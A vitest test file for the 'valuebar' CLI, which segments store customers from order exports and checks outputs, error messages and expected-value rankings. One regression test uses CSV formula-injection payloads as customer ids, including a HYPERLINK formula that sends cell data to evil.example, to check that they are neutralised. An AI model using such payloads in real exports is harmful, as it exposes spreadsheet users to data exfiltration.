/**
 * @module `valuebar segments compute` and `segments rules` as a store runs them: real files, the real
 * command, exit codes, the summary, and one clear message for input that cannot be segmented.
 */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { root } from "../../scripts/dev-server.mjs";
import { expectedSegments, genericOrdersCsv } from "../../scripts/generate-orders.mjs";
import { scratch, valuebar } from "./run";

const fixtures = join(root, "test", "fixtures");
const ndjsonRows = (path: string) =>
  readFileSync(path, "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { customer_id: string; segments: string[]; covariates?: Record<string, number> });

/** The cells of one CSV line (RFC 4180 quoting, no line breaks inside fields). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted && ch === '"' && line[i + 1] === '"') (cell += '"'), i++;
    else if (ch === '"') quoted = !quoted;
    else if (ch === "," && !quoted) cells.push(cell), (cell = "");
    else cell += ch;
  }
  cells.push(cell);
  return cells;
}

/** The command never shows a stack trace, whatever goes wrong. */
function expectNoStack(stderr: string) {
  expect(stderr).not.toMatch(/^\s+at /m);
  expect(stderr).not.toMatch(/Error:/);
}

describe("segments compute", () => {
  it("writes the members of each segment as NDJSON, every customer's metrics as CSV, and a summary", async () => {
    const files = scratch();
    const options = { customers: 2000, seed: 21 };
    const orders = files.file("orders.csv", genericOrdersCsv(options));
    const run = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("m.ndjson"), "--metrics", files.path("metrics.csv")]);
    expect(run.code, run.stderr).toBe(0);
    expectNoStack(run.stderr);

    const expected = expectedSegments(options);
    const rows = ndjsonRows(files.path("m.ndjson"));
    // Customers in no segment are left out of the file (push --replace removes them from the site).
    expect(rows.length).toBe([...expected.values()].filter((c) => c.expected.length > 0).length);
    for (const row of rows) expect(row.segments, row.customer_id).toEqual(expected.get(row.customer_id)?.expected);
    // Each membership carries the CUPED covariate, net revenue of the year before (checked against Python in
    // test/core/segments.test.ts), in cents; no more than the customer's net revenue of all time.
    const monetary = new Map(readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n").slice(1).map((line) => [line.split(",")[0], Number(line.split(",")[5])]));
    for (const row of rows) {
      const covariate = row.covariates?.net_revenue_365d;
      expect(Object.keys(row.covariates ?? {}), row.customer_id).toEqual(["net_revenue_365d"]);
      expect(Number.isFinite(covariate) && Math.abs(Math.round((covariate ?? 0) * 100) - (covariate ?? 0) * 100) < 1e-6 ? true : covariate, row.customer_id).toBe(true);
      expect(covariate ?? 0, row.customer_id).toBeLessThanOrEqual((monetary.get(row.customer_id) ?? 0) + 0.01);
    }

    const metrics = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n");
    expect(metrics[0]).toBe("customer_id,orders,recency_days,tenure_days,currency,monetary,aov,discount_share,return_rate,r_score,f_score,m_score,aov_score,expected_value,probability_active,expected_orders,expected_order_value,segments");
    expect(metrics).toHaveLength(2001);

    expect(run.stderr).toMatch(/^Read [\d,]+ order\(s\) of 2,000 customer\(s\) from .*orders\.csv \(generic orders CSV/m);
    expect(run.stderr).toMatch(/^segment\s+customers\s+share\s+revenue$/m);
    const vip = [...expected.values()].filter((c) => c.archetype === "vip").length;
    expect(run.stderr).toMatch(new RegExp(`^vip\\s+${vip.toLocaleString("en")}\\s+${((vip / 2000) * 100).toFixed(1)}%\\s+\\d+\\.\\d%$`, "m"));
    expect(run.stderr).toMatch(/^\(none\)\s+/m);
    expect(run.stderr).toMatch(/^Wrote [\d,]+ customer\(s\) in at least one segment to .*m\.ndjson .* in [\d.]+ s \(peak memory \d+ MB\)\.$/m);
  });

  it("reads Shopify's export with its customers export, and says what it left out", async () => {
    const files = scratch();
    const run = await valuebar([
      "segments", "compute",
      "--orders", join(fixtures, "shopify-orders.csv"),
      "--customers", join(fixtures, "shopify-customers.csv"),
      "--out", files.path("m.ndjson"),
      "--metrics", files.path("metrics.csv"),
    ]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/Shopify orders export, 12 row\(s\)/);
    expect(run.stderr).toMatch(/^Not counted: 2 cancelled or voided, 1 with no customer in the customers export \(guest checkouts\)\.$/m);
    const ids = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n").slice(1).map((line) => line.split(",")[0]);
    expect(ids.sort()).toEqual(["7001", "7002", "7003", "7004"]);
  });

  // Issue 9: the --metrics CSV let a customer id like =HYPERLINK(...) run as a formula in a spreadsheet.
  it("neutralises customer ids that a spreadsheet would run as formulas in the --metrics CSV (=, +, -, @), numbers staying numbers", async () => {
    const files = scratch();
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,1)", "-2+3", "@cmd"];
    const quoted = (id: string) => `"${id.replace(/"/g, '""')}"`;
    const orders = files.file(
      "orders.csv",
      ["customer_id,order_id,created_at,total,currency", ...hostile.map((id, i) => `${quoted(id)},o${i},2026-10-0${i + 1},59.90,EUR`), "1001,o9,2026-10-09,10.00,EUR"].join("\n"),
    );
    const run = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("m.ndjson"), "--metrics", files.path("metrics.csv")]);
    expect(run.code, run.stderr).toBe(0);
    const rows = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n").slice(1).map(csvCells);
    const byId = new Map(rows.map((cells) => [cells[0] ?? "", cells]));
    for (const id of hostile) {
      // Shown as the text it is, behind the single quote a spreadsheet reads as "text".
      const cells = byId.get(`'${id}`);
      expect(cells, id).toBeDefined();
      expect(cells?.[5], id).toBe("59.90");
    }
    expect(byId.get("1001")?.[5]).toBe("10.00");
    for (const [cell] of rows) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The memberships file is JSON, read by the push, not a spreadsheet: the ids stay exactly as the store wrote them.
    const ids = readFileSync(files.path("m.ndjson"), "utf8").trim().split("\n").map((line) => (JSON.parse(line) as { customer_id: string }).customer_id);
    for (const id of ids) expect(hostile.includes(id) || id === "1001", id).toBe(true);
  });

  it("reports bad rows by line and leaves them out; --strict stops and writes nothing", async () => {
    const files = scratch();
    const orders = files.file(
      "orders.csv",
      ["customer_id,order_id,created_at,total,currency", "c1,o1,2026-10-01,10.00,EUR", "c2,o2,2026-10-01,ten,EUR", "c3,o3,2026-10-02,12.00,EUR"].join("\n"),
    );
    const lenient = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("m.ndjson")]);
    expect(lenient.code, lenient.stderr).toBe(0);
    expect(lenient.stderr).toMatch(/^1 bad row\(s\) left out \(--strict stops on any\):\n {2}line 3: total "ten" is not an amount \(59\.90\)$/m);
    expect(lenient.stderr).toMatch(/Read 2 order\(s\) of 2 customer\(s\)/);

    const strict = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("strict.ndjson"), "--strict"]);
    expect(strict.code).toBe(1);
    expect(strict.stderr).toBe(`valuebar: 1 bad row(s) in ${orders}; --strict: nothing written\n  line 3: total "ten" is not an amount (59.90)\n`);
    expect(existsSync(files.path("strict.ndjson"))).toBe(false);
  });

  it("answers a file that is not an orders export with one message and exit code 1", async () => {
    const files = scratch();
    const cases: [string, string | Buffer, RegExp][] = [
      ["memberships.ndjson", '{"customer_id":"1","segments":["vip"]}\n', /: this is not an orders export: expected Shopify's orders export/],
      ["products.csv", "Handle,Title,Vendor\nshirt,Shirt,Acme\n", /: this is not an orders export: .*its first line is: Handle, Title, Vendor$/],
      ["photo.csv", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d]), /photo\.csv is not a text file; expected an orders export \(CSV\)$/],
    ];
    for (const [name, content, message] of cases) {
      const path = files.file(name, content.toString());
      if (typeof content !== "string") (await import("node:fs")).writeFileSync(path, content);
      const run = await valuebar(["segments", "compute", "--orders", path, "--out", files.path("out.ndjson")]);
      expect(run.code, name).toBe(1);
      expect(run.stderr.trim().split("\n"), name).toHaveLength(1);
      expect(run.stderr.trim(), name).toMatch(message);
      expectNoStack(run.stderr);
    }
    const unwritable = await valuebar(["segments", "compute", "--orders", join(fixtures, "shopify-orders.csv"), "--customers", join(fixtures, "shopify-customers.csv"), "--out", files.path("no/such/dir/out.ndjson")]);
    expect(unwritable.code).toBe(1);
    expect(unwritable.stderr.trim()).toMatch(/^valuebar: cannot write .*out\.ndjson: ENOENT$/);
    const missing = await valuebar(["segments", "compute", "--orders", files.path("nope.csv"), "--out", files.path("out.ndjson")]);
    expect(missing.code).toBe(1);
    expect(missing.stderr.trim()).toMatch(/^valuebar: cannot read .*nope\.csv: ENOENT$/);
  });

  it("starts from `segments rules`, and names every bad field of a rules file", async () => {
    const files = scratch();
    const rules = await valuebar(["segments", "rules"]);
    expect(rules.code).toBe(0);
    const parsed = JSON.parse(rules.stdout) as { segments: { id: string }[] };
    expect(parsed.segments.map((s) => s.id)).toEqual(["vip", "valuable", "at_risk", "high_returner", "bargain_hunter", "new", "occasional"]);

    const orders = files.file("orders.csv", genericOrdersCsv({ customers: 200, seed: 22 }));
    const same = await valuebar(["segments", "compute", "--orders", orders, "--rules", files.file("rules.json", rules.stdout), "--out", files.path("a.ndjson")]);
    const byDefault = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("b.ndjson")]);
    expect(same.code).toBe(0);
    expect(byDefault.code).toBe(0);
    expect(readFileSync(files.path("a.ndjson"), "utf8")).toBe(readFileSync(files.path("b.ndjson"), "utf8"));

    const bad = files.file("bad.json", JSON.stringify({ segments: [{ id: "vip", when: { r_score: { min: 9 } }, not_in: ["vip"] }] }));
    const run = await valuebar(["segments", "compute", "--orders", orders, "--rules", bad, "--out", files.path("c.ndjson")]);
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(
      `valuebar: rules file ${bad} is invalid:\n  segments.0.when.r_score.min: Too big: expected number to be <=5\n  segments.0.not_in.0: "vip" is not a segment listed before "vip"\n`,
    );
    const broken = await valuebar(["segments", "compute", "--orders", orders, "--rules", files.file("broken.json", "{ segments: ["), "--out", files.path("d.ndjson")]);
    expect(broken.code).toBe(1);
    expect(broken.stderr).toMatch(/^valuebar: rules file .*broken\.json is not valid JSON: /);
  });

  it("converts currencies with a rates file, and says how a bad one is wrong", async () => {
    const files = scratch();
    const orders = files.file("orders.csv", genericOrdersCsv({ customers: 300, seed: 23, usdShare: 0.3 }));
    const perCurrency = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("a.ndjson")]);
    expect(perCurrency.stderr).toMatch(/^Currencies: EUR, USD, each customer scored \(M, order value\) against the customers of their own currency\.$/m);
    expect(perCurrency.stderr).toMatch(/^segment\s+customers\s+share\s+revenue EUR\s+revenue USD$/m);
    const rates = files.file("rates.json", JSON.stringify({ base: "EUR", rates: { USD: 0.91 } }));
    const converted = await valuebar(["segments", "compute", "--orders", orders, "--rates", rates, "--out", files.path("b.ndjson")]);
    expect(converted.code, converted.stderr).toBe(0);
    expect(converted.stderr).not.toMatch(/Currencies:/);
    const badRates = files.file("bad-rates.json", JSON.stringify({ base: "euro", rates: { USD: -1 } }));
    const run = await valuebar(["segments", "compute", "--orders", orders, "--rates", badRates, "--out", files.path("c.ndjson")]);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/rates file .* is invalid .*:\n {2}base: use an ISO 4217 currency code such as EUR\n {2}rates\.USD: a rate is a positive number\n$/);
  });

  it("takes the horizon of expected orders in whole days, and names --horizon-days when it is not one", async () => {
    const files = scratch();
    const orders = files.file("orders.csv", genericOrdersCsv({ customers: 50, seed: 24 }));
    const good = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("a.ndjson"), "--horizon-days", "90"]);
    expect(good.code, good.stderr).toBe(0);
    for (const bad of ["0", "3651", "1.5", "a year"]) {
      const run = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("b.ndjson"), "--horizon-days", bad]);
      expect(run.code, bad).toBe(1);
      expect(run.stderr, bad).toBe(`valuebar: --horizon-days ${JSON.stringify(bad)} is not a whole number of days from 1 to 3650 (365: a year)\n`);
      expect(existsSync(files.path("b.ndjson")), bad).toBe(false);
    }
  });

  it("ranks every archetype's expected value as a person would, a customer with two orders three days apart far below a VIP", async () => {
    const files = scratch();
    const options = { customers: 2000, seed: 21 };
    // The case: two orders three days apart, recently. The heuristic read the short gap as a habit of an
    // order every 7 days and gave this customer five times a VIP's value.
    const twoQuick = "two-quick,#q1,2026-10-20T10:00:00Z,60.00,EUR,0,0\ntwo-quick,#q2,2026-10-23T10:00:00Z,60.00,EUR,0,0\n";
    const orders = files.file("orders.csv", [...genericOrdersCsv(options)].join("") + twoQuick);
    const run = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("m.ndjson"), "--metrics", files.path("metrics.csv")]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/^Expected value \(the next 365 day\(s\)\): fitted model BG\/NBD \+ Gamma-Gamma/m);

    const archetypes = expectedSegments(options);
    const [header = "", ...lines] = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n");
    const column = (name: string) => header.split(",").indexOf(name);
    const byArchetype = new Map<string, { value: number; active: number; orders: number }[]>();
    for (const line of lines) {
      const cells = csvCells(line);
      const id = cells[0] ?? "";
      const archetype = archetypes.get(id)?.archetype ?? id;
      const list = byArchetype.get(archetype) ?? [];
      list.push({ value: Number(cells[column("expected_value")]), active: Number(cells[column("probability_active")]), orders: Number(cells[column("expected_orders")]) });
      byArchetype.set(archetype, list);
    }
    const values = (archetype: string) => (byArchetype.get(archetype) ?? []).map((c) => c.value).sort((p, q) => p - q);
    const median = (archetype: string) => values(archetype)[values(archetype).length >> 1] ?? Number.NaN;
    const lowest = (archetype: string) => values(archetype)[0] ?? Number.NaN;
    const highest = (archetype: string) => values(archetype).at(-1) ?? Number.NaN;
    for (const row of byArchetype.values()) {
      for (const c of row) {
        expect(c.active).toBeGreaterThanOrEqual(0);
        expect(c.active).toBeLessThanOrEqual(1);
        expect(c.orders).toBeGreaterThanOrEqual(0);
        expect(c.value).toBeGreaterThanOrEqual(0);
      }
    }
    // Every VIP above every one-off buyer (new, valuable, lost) and above every lapsing or occasional customer.
    for (const other of ["new", "valuable", "lost", "occasional", "at_risk", "high_returner", "bargain_hunter"]) {
      expect(lowest("vip"), other).toBeGreaterThan(highest(other));
    }
    // A customer who came back is worth more than one who bought once long ago; a lapsing one less than a VIP.
    expect(median("occasional")).toBeGreaterThan(median("lost"));
    expect(median("new")).toBeGreaterThan(median("lost"));
    // The lapsing buyers are the least likely to be active of the repeat buyers.
    const meanActive = (archetype: string) => (byArchetype.get(archetype) ?? []).reduce((sum, c) => sum + c.active, 0) / (byArchetype.get(archetype)?.length ?? 1);
    for (const other of ["vip", "high_returner", "bargain_hunter"]) expect(meanActive("at_risk"), other).toBeLessThan(meanActive(other));
    // The two quick orders: below half of a typical VIP's value, not five times it.
    expect(highest("two-quick")).toBeLessThan(median("vip") / 2);
  });

  it("keeps the heuristic on a store too small to fit the model, and says so", async () => {
    const files = scratch();
    const orders = files.file("orders.csv", genericOrdersCsv({ customers: 60, seed: 25 }));
    const run = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("m.ndjson"), "--metrics", files.path("metrics.csv")]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(
      /^Expected value \(the next 365 day\(s\)\): the heuristic \(mean days between orders, at least 7\), not the fitted model: \d+ customer\(s\) with repeat orders, fewer than the 50 the fit needs\.$/m,
    );
    expect(run.stderr).not.toMatch(/BG\/NBD on/);
    const [header = "", ...lines] = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n");
    const at = header.split(",").indexOf("expected_value");
    expect(lines.some((line) => Number(csvCells(line)[at]) > 0)).toBe(true);
  });

  it("explains its usage", async () => {
    const help = await valuebar(["--help"]);
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/valuebar segments compute --orders orders\.csv --out memberships\.ndjson/);
    const wrong = await valuebar(["segments", "compute", "--orders", "x.csv", "--out", "y", "--colour", "red"]);
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toMatch(/^valuebar: Unknown option '--colour'.*; see valuebar --help$/m);
    const missing = await valuebar(["segments", "compute", "--orders", "x.csv"]);
    expect(missing.stderr).toBe("valuebar: --out is required: where to write the memberships (NDJSON)\n");
  });
});
